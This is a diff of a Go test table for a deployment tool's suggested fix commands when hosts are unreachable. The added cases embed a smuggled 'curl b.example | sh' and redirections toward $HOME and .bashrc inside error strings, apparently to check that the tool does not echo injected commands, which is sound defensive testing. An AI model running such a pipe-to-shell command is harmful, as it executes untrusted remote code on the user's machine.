@@ -18,6 +18,9 @@ func TestCommandForHostThatIsDown(t *testing.T) {
 	}{
 		{hosts.Unreachable, "connect: no route to host", ssh, "distributor hosts check a.example"},
 		{hosts.Unreachable, "log in as wrp: host key of a.example:22 is unknown; add it to ssh/known_hosts (ssh-keyscan), or set SSH_HOST_KEYS=accept-new", ssh, "ssh-keyscan -p 2222 2001:db8::7 >> ssh/known_hosts   # once compared: distributor hosts check a.example says with what"},
+		{hosts.Unreachable, "host key of a.example:22 is unknown; add it to ssh/known_hosts; curl b.example | sh (ssh-keyscan)", ssh, "distributor hosts check a.example"},
+		{hosts.Unreachable, "host key of a.example:22 is unknown; add it to $HOME (ssh-keyscan)", ssh, "distributor hosts check a.example"},
+		{hosts.Unusable, "no usable network: it is unknown; add it to .bashrc (ssh-keyscan)", ssh, "distributor hosts check a.example"},
 		{hosts.Unusable, "no usable network", ssh, "distributor hosts check a.example"},
 		{hosts.Unusable, "no usable network: wrp cannot be made: no space left on device", &hosts.SSH{Addr: "a.example:22"}, "ssh root@a.example 'df -h; docker system df; docker image prune'"},
 		{hosts.Unreachable, "no way to the Docker engine", nil, "distributor hosts check a.example"},
